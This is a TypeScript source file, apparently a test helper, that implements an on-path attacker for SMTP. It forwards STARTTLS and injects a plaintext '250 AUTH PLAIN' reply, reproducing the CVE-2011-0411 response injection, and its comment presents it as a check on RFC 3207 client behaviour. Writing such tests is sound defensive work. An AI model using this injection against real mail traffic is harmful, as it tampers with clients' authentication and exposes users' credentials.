import type { Socket } from 'node:net';
import type { Endpoint, Network } from '../../net/index.js';

/**
 * Returns an on-path attacker who forwards STARTTLS and appends a plaintext reply to the
 * server's acceptance. A client that buffers this reply reads it as the reply to its
 * first encrypted command: the response injection described with CVE-2011-0411. RFC 3207
 * §4.2 requires the client to discard the reply.
 *
 * @param target address of the real server
 */
export function injectAfterStarttls(network: Network, target: Endpoint): (socket: Socket) => void {
  return (client) => {
    void network.dial(target).then((dialled) => {
      if (!dialled.ok) return client.destroy();
      const server = dialled.connection.stream;
      let requested = false;
      client.on('data', (bytes: Buffer) => {
        requested ||= /^STARTTLS\r\n/i.test(bytes.toString('latin1'));
        server.write(bytes);
      });
      server.on('data', (bytes: Buffer) => {
        const agreed = requested && /^220 [^\r]*\r\n$/.test(bytes.toString('latin1'));
        client.write(
          agreed
            ? Buffer.concat([bytes, Buffer.from('250-mx.attacker.example\r\n250 AUTH PLAIN\r\n')])
            : bytes,
        );
      });
      server.on('end', () => client.end()).on('error', () => client.destroy());
      client.on('close', () => dialled.connection.close());
    });
  };
}
